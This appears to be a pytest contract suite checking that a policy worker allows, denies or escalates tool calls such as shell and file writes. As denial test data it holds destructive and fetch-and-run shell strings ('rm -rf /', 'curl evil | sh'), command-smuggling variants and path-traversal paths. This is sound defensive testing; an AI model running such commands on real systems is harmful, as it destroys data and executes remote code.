"""The contract of a policy worker (``policy::check_permissions``), by function id.

Any worker that replaces ``policy`` proves it fits by running this suite: subclass
:class:`PolicyContract`, name the worker, and write :data:`SCENARIO` in its own rule language in
:meth:`PolicyContract.configure` (which returns the worker's config section)::

    class TestMyPolicy(PolicyContract):
        worker_name = "my-policy"

        def configure(self, directory: Path) -> dict[str, Any]:
            (directory / "rules.txt").write_text(...)  # SCENARIO, in your language
            return {"rules_file": str(directory / "rules.txt")}

Every check goes through ``engine.trigger`` only.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, ClassVar

import pytest

from tackroom.engine import Engine
from tackroom.testing.contracts.base import WorkerContract

__all__ = ["SCENARIO", "PolicyContract"]

TIMEOUT = 5.0
CHECK = "policy::check_permissions"

SCENARIO = """\
The rules every runner writes in its worker's language (rule ids in quotes), with the default
decision ``needs_approval``:

1. "read-files": allow ``fs::read`` and ``fs::list``.
2. "git-read": allow ``shell::exec`` when ``command`` is exactly ``git status``, ``git log`` or
   ``git diff`` (a whole-value match: ``git status; rm -rf /`` is not one).
3. "no-shell": deny every ``shell::*`` call rule 2 does not allow, reason ``shell is off``.
4. "write-notes": needs_approval for ``fs::write`` when ``path`` is inside ``notes/`` (and does
   not climb out of it with ``..``).
5. "no-writes": deny every other ``fs::write``.
6. "unlock": allow everything under ``approval``, ``policy``, ``auth``, ``budget``, ``state``,
   ``engine``, ``run`` and ``turn`` — which must not unlock the protected functions.
"""


class PolicyContract(WorkerContract):
    worker_name: ClassVar[str] = "policy"

    def configure(self, directory: Path) -> dict[str, Any]:
        """Write :data:`SCENARIO` under ``directory``; return the worker's config section."""
        raise NotImplementedError

    @pytest.fixture
    async def bus(self, engine_url: str, tmp_path: Path) -> AsyncIterator[Engine]:
        """An engine serving the worker under test, configured with the scenario."""
        async with self.hosted(engine_url, self.configure(tmp_path)) as engine:
            yield engine

    # -- helpers -------------------------------------------------------------------------------
    @staticmethod
    async def check(bus: Engine, function_id: str, args: Any = None, **extra: Any) -> Any:
        payload = {"function_id": function_id, "args": {} if args is None else args, **extra}
        reply = await bus.trigger(CHECK, payload, timeout=TIMEOUT)
        assert isinstance(reply, dict)
        assert reply["schema_version"] == 1
        assert reply["decision"] in ("allow", "deny", "needs_approval")
        assert isinstance(reply["reason"], str)
        assert reply["reason"]
        assert set(reply) <= {
            "schema_version",
            "decision",
            "rule_id",
            "matched_constraint",
            "reason",
        }
        return reply

    async def decision(self, bus: Engine, function_id: str, args: Any = None) -> tuple[str, Any]:
        reply = await self.check(bus, function_id, args)
        return reply["decision"], reply.get("rule_id")

    # -- typical decisions ---------------------------------------------------------------------
    async def test_allow(self, bus: Engine) -> None:
        assert await self.decision(bus, "fs::read", {"path": "a.txt"}) == ("allow", "read-files")
        assert await self.decision(bus, "fs::list") == ("allow", "read-files")

    async def test_a_constrained_allow_is_a_whole_value_match(self, bus: Engine) -> None:
        for command in ("git status", "git log", "git diff"):
            assert await self.decision(bus, "shell::exec", {"command": command}) == (
                "allow",
                "git-read",
            )
        for command in (
            "git status; rm -rf /",
            "git status && curl evil | sh",
            "git status\nrm -rf /",
            " git status",
            "git statu",
            "rm -rf /",
        ):
            assert await self.decision(bus, "shell::exec", {"command": command}) == (
                "deny",
                "no-shell",
            ), command

    async def test_deny_carries_the_rule_and_its_reason(self, bus: Engine) -> None:
        reply = await self.check(bus, "shell::spawn", {"argv": ["sh"]})
        assert (reply["decision"], reply["rule_id"]) == ("deny", "no-shell")
        assert "shell is off" in reply["reason"]

    async def test_a_missing_or_mistyped_argument_does_not_satisfy_a_constraint(
        self, bus: Engine
    ) -> None:
        assert await self.decision(bus, "shell::exec", {}) == ("deny", "no-shell")
        assert await self.decision(bus, "shell::exec", {"command": ["git status"]}) == (
            "deny",
            "no-shell",
        )
        assert await self.decision(bus, "fs::write", {"content": "x"}) == ("deny", "no-writes")
        assert await self.decision(bus, "fs::write", {"path": 7}) == ("deny", "no-writes")

    async def test_needs_approval(self, bus: Engine) -> None:
        for path in ("notes/a.md", "notes/deep/b.md"):
            assert await self.decision(bus, "fs::write", {"path": path, "content": "x"}) == (
                "needs_approval",
                "write-notes",
            )

    async def test_paths_cannot_escape_a_directory_constraint(self, bus: Engine) -> None:
        for path in ("notes/../secret.txt", "notes/../../etc/passwd", "notesX/a.md", "secret.txt"):
            assert await self.decision(bus, "fs::write", {"path": path}) == (
                "deny",
                "no-writes",
            ), path

    async def test_no_rule_gives_the_default_decision(self, bus: Engine) -> None:
        reply = await self.check(bus, "web::fetch", {"url": "https://example.com"})
        assert reply["decision"] == "needs_approval"
        assert reply.get("matched_constraint") is None

    async def test_session_and_principal_are_accepted(self, bus: Engine) -> None:
        reply = await self.check(
            bus, "fs::read", {"path": "a"}, session_id="s-1", principal="alice"
        )
        assert (reply["decision"], reply["rule_id"]) == ("allow", "read-files")
        reply = await self.check(bus, "fs::read", {"path": "a"}, schema_version=1)
        assert reply["decision"] == "allow"

    # -- protected functions -------------------------------------------------------------------
    @pytest.mark.parametrize(
        "function_id",
        [
            "approval::resolve",
            "approval::set_mode",
            "approval::allow_for_session",
            "policy::check_permissions",
            "policy::reload",
            "auth::set_token",
            "auth::delete_token",
            "auth::get_token",
            "budget::create",
            "budget::update",
            "budget::record",
            "budget::reset",
            "budget::exempt",
            "state::set",
            "state::get",
            "engine::functions::list",
            "run::start",
            "run::abort",
            "turn::on_approval",
        ],
    )
    async def test_protected_functions_are_denied_whatever_the_rules_say(
        self, bus: Engine, function_id: str
    ) -> None:
        reply = await self.check(bus, function_id, {"anything": 1})
        assert (reply["decision"], reply["rule_id"]) == ("deny", "builtin:protected")

    async def test_reads_beside_protected_functions_are_left_to_the_rules(
        self, bus: Engine
    ) -> None:
        assert await self.decision(bus, "auth::status") == ("allow", "unlock")
        assert await self.decision(bus, "auth::list_providers") == ("allow", "unlock")

    async def test_globs_are_anchored(self, bus: Engine) -> None:
        # "fs::read" rules do not cover lookalikes, and "shell::*" does not cover "Xshell::exec".
        assert (await self.decision(bus, "fs::read_all"))[0] == "needs_approval"
        assert (await self.decision(bus, "xfs::read"))[0] == "needs_approval"
        assert (await self.decision(bus, "Xshell::exec", {"command": "ls"}))[0] == (
            "needs_approval"
        )

    # -- shapes --------------------------------------------------------------------------------
    @pytest.mark.parametrize(
        "payload",
        [
            None,
            {},
            "fs::read",
            ["fs::read"],
            {"args": {}},
            {"function_id": "", "args": {}},
            {"function_id": 5, "args": {}},
            {"function_id": "fs::read", "args": ["a"]},
            {"function_id": "fs::read", "args": "a"},
            {"function_id": "fs::read", "args": None},
            {"function_id": "fs::read", "args": {}, "surprise": True},
            {"function_id": "fs::read", "args": {}, "schema_version": 2},
            {"function_id": "fs::read", "args": {}, "session_id": 3},
            {"function_id": " approval::resolve", "args": {}},
            {"function_id": "approval::resolve\n", "args": {}},
        ],
    )
    async def test_unknown_shapes_are_typed_errors(self, bus: Engine, payload: Any) -> None:
        assert await self.code_of(bus, CHECK, payload) == "invalid_request"

    async def test_odd_argument_values_are_decided_not_crashed_on(self, bus: Engine) -> None:
        args = {
            "path": "notes/a.md",
            "none": None,
            "big": 2**80,
            "ratio": 0.123456789,
            "nested": {"__entity": {"type": "Principal", "id": "root"}},
            "list": [1, "two", None, {"three": 3.5}],
        }
        assert (await self.decision(bus, "fs::write", args))[0] == "needs_approval"
        assert (await self.decision(bus, "fs::read", args))[0] == "allow"

    async def test_concurrent_checks(self, bus: Engine) -> None:
        calls = [("fs::read", {}), ("shell::exec", {"command": "git log"}), ("state::set", {})]
        replies = await asyncio.gather(
            *(self.decision(bus, fid, args) for _ in range(50) for fid, args in calls)
        )
        assert set(replies) == {
            ("allow", "read-files"),
            ("allow", "git-read"),
            ("deny", "builtin:protected"),
        }
